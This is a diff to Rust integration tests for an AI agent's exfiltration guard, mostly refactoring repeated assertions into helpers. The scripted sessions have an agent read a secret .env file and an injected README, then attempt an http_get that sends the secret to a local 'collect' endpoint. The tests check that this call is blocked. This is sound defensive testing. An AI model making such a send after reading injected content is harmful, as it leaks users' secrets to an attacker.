@@ -5,8 +5,11 @@
 
 use crate::support::cassette::{answer_turn, call_turn};
 use crate::support::events::{events, find, label, labels};
-use crate::support::guard::{cassette, project};
+use crate::support::guard::{assert_nothing_sent, cassette, project, send_turn};
 use crate::support::output::assert_exit;
+use crate::support::run::argv_with;
+use crate::support::run::replay_events;
+use crate::support::text::has;
 use crate::*;
 use serde_json::{Value, json};
 use std::process::Stdio;
@@ -24,11 +27,7 @@ fn injected_run(port: u16, read_secret: bool) -> Vec<Value> {
     )];
     let secret_path = if read_secret { ".env" } else { "notes.txt" };
     turns.push(call_turn("c2", "read_file", json!({"path": secret_path})));
-    turns.push(call_turn(
-        "c3",
-        "http_get",
-        json!({"url": format!("http://127.0.0.1:{port}/collect?k={SECRET}")}),
-    ));
+    turns.push(send_turn("c3", port));
     turns.push(answer_turn("Summarised."));
     turns
 }
@@ -38,13 +37,7 @@ fn injected_run(port: u16, read_secret: bool) -> Vec<Value> {
 fn summarised(cli: &Cli, sb: &Sandbox) -> Vec<Value> {
     let o = cli.run(
         &sb.ws(),
-        &[
-            "run",
-            "--provider",
-            "replay",
-            "--json",
-            "Summarise the vendored lib",
-        ],
+        &argv_with("run --provider replay --json", "Summarise the vendored lib"),
     );
     assert_exit(&o, 0);
     events(&o)
@@ -87,19 +80,12 @@ fn a_session_holding_secrets_and_injected_text_cannot_send_unasked() {
     assert_eq!(end["outcome"]["is_error"], true);
     let told = end["outcome"]["content"].as_str().expect("content");
     assert!(told.starts_with("not run: "), "{told}");
-    assert!(
-        told.contains("this session read sensitive data (`.env`) and untrusted content (`vendor/lib/README.md`)"),
-        "{told}"
+    has(
+        told,
+        "this session read sensitive data (`.env`) and untrusted content (`vendor/lib/README.md`)",
     );
-    assert!(
-        told.contains(&format!("could send data to `127.0.0.1:{port}`")),
-        "{told}"
-    );
-    assert_eq!(
-        server.requests().len(),
-        0,
-        "the collector received a request"
-    );
+    has(told, format!("could send data to `127.0.0.1:{port}`"));
+    assert_nothing_sent(&server);
 
     // The log keeps the labels.
     let records = corral_core::session::read(&crate::support::log::session_log(&cli)).expect("log");
@@ -168,13 +154,7 @@ fn a_resumed_session_still_holds_what_it_read() {
     let mut child = cli
         .command(
             &sb.ws(),
-            &[
-                "run",
-                "--provider",
-                "replay",
-                "--json",
-                "Summarise the vendored lib",
-            ],
+            &argv_with("run --provider replay --json", "Summarise the vendored lib"),
         )
         .stdout(Stdio::piped())
         .stderr(Stdio::null())
@@ -215,11 +195,7 @@ fn a_resumed_session_still_holds_what_it_read() {
         reason.contains("`.env`") && reason.contains("`vendor/lib/README.md`"),
         "{reason}"
     );
-    assert_eq!(
-        server.requests().len(),
-        0,
-        "the collector received a request"
-    );
+    assert_nothing_sent(&server);
 }
 
 #[test]
@@ -361,11 +337,7 @@ fn what_a_subagent_read_arms_its_parents_guard() {
     ];
     let parent = vec![
         call_turn("c1", "task", json!({"prompt": ASK, "tools": ["read_file"]})),
-        call_turn(
-            "c2",
-            "http_get",
-            json!({"url": format!("http://127.0.0.1:{port}/collect?k={SECRET}")}),
-        ),
+        send_turn("c2", port),
         answer_turn("Done."),
     ];
     crate::support::cassette::write_with_agents(
@@ -375,12 +347,7 @@ fn what_a_subagent_read_arms_its_parents_guard() {
         &json!([{"prompt": ASK, "turns": child}]),
     );
     let cli = Cli::new();
-    let o = cli.run(
-        &sb.ws(),
-        &["run", "--provider", "replay", "--json", "Summarise the lib"],
-    );
-    assert_exit(&o, 0);
-    let events = events(&o);
+    let events = replay_events(&cli, &sb, "Summarise the lib");
     let task = find(&events, "tool_call_end", "c1");
     assert_eq!(task["outcome"]["is_error"], false, "{task}");
     let permission = find(&events, "permission", "c2");
@@ -389,9 +356,5 @@ fn what_a_subagent_read_arms_its_parents_guard() {
     for part in ["exfiltration guard", "`.env`", "`vendor/lib/README.md`"] {
         assert!(reason.contains(part), "{part:?} not in {reason}");
     }
-    assert_eq!(
-        server.requests().len(),
-        0,
-        "the collector received a request"
-    );
+    assert_nothing_sent(&server);
 }
